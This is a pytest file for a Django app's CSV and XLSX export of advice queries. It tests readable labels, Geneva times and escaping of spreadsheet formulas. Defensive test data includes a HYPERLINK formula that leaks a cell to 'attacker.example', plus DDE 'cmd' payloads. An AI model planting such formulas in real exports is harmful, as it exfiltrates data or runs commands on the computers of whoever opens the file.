"""The Secretariat's CSV export: labels a person reads, Geneva time, and no cell a spreadsheet would run."""

import csv
import io
from datetime import datetime, timezone

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from advice.models import AdviceQuery, AdviceQueryNote
from tests.advice_support import advice_hub_url, advice_settings, valid_submission  # noqa: F401

FORMULA_NAME = '=HYPERLINK("http://attacker.example/?leak="&B2,"Open")'


def export(client, export_format="csv"):
    response = client.get(reverse("advice_queries:index") + f"?export={export_format}")
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.getvalue()


def csv_rows(client):
    return list(csv.DictReader(io.StringIO(export(client).decode("utf-8-sig"))))


@pytest.mark.django_db
def test_the_csv_has_labels_names_and_geneva_times(editor_client, editor):
    Client().post(advice_hub_url("es"), valid_submission(country="SN", preferred_language="pt", topic="training"))
    query = AdviceQuery.objects.get()
    editor_client.post(reverse("advice_queries:edit", args=[query.pk]),
                       {"status": "in_progress", "assignee": editor.pk, "referral_partner": "", "note": "Called."})
    AdviceQuery.objects.filter(pk=query.pk).update(
        created_at=datetime(2026, 12, 1, 16, 21, tzinfo=timezone.utc),
        status_changed_at=datetime(2026, 6, 30, 22, 30, tzinfo=timezone.utc),
    )
    AdviceQueryNote.objects.update(created_at=datetime(2026, 12, 2, 8, 0, tzinfo=timezone.utc))

    (row,) = csv_rows(editor_client)

    assert row["Status"] == "In progress"
    assert row["Country"] == "Senegal"
    assert row["Preferred language for the answer"] == "Português"
    assert row["Topic"] == "Training"
    assert row["Received (Geneva time)"] == "2026-12-01 17:21"
    assert row["Status changed (Geneva time)"] == "2026-07-01 00:30"
    assert row["Assignee"] == "editor"
    assert row["Internal notes (Geneva time)"] == "2026-12-02 09:00 · editor: Called."
    assert "in_progress" not in row.values() and "SN" not in row.values() and "pt" not in row.values()


@pytest.mark.django_db
def test_a_formula_sent_as_a_name_is_written_as_text(editor_client):
    response = Client().post(advice_hub_url(), valid_submission(name=FORMULA_NAME))
    assert response.status_code == 302

    (row,) = csv_rows(editor_client)

    assert row["Name"] == "'" + FORMULA_NAME
    assert row["Phone"] == "'+212 5 37 00 00 00"


@pytest.mark.django_db
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_trigger_is_neutralised(editor_client, start):
    Client().post(advice_hub_url(), valid_submission())
    AdviceQuery.objects.update(institution=f"{start}1+1", question=f"{start}cmd|' /C calc'!A0")

    (row,) = csv_rows(editor_client)

    assert row["Institution"] == f"'{start}1+1"
    assert row["Question"] == f"'{start}cmd|' /C calc'!A0"


@pytest.mark.django_db
def test_the_spreadsheet_export_holds_the_formula_as_text(editor_client):
    Client().post(advice_hub_url(), valid_submission(name=FORMULA_NAME))

    sheet = load_workbook(io.BytesIO(export(editor_client, "xlsx"))).active
    header, values = [cell.value for cell in sheet[1]], sheet[2]
    name = values[header.index("Name")]

    assert name.value == FORMULA_NAME and name.data_type == "s"
    assert values[header.index("Received (Geneva time)")].data_type == "s"
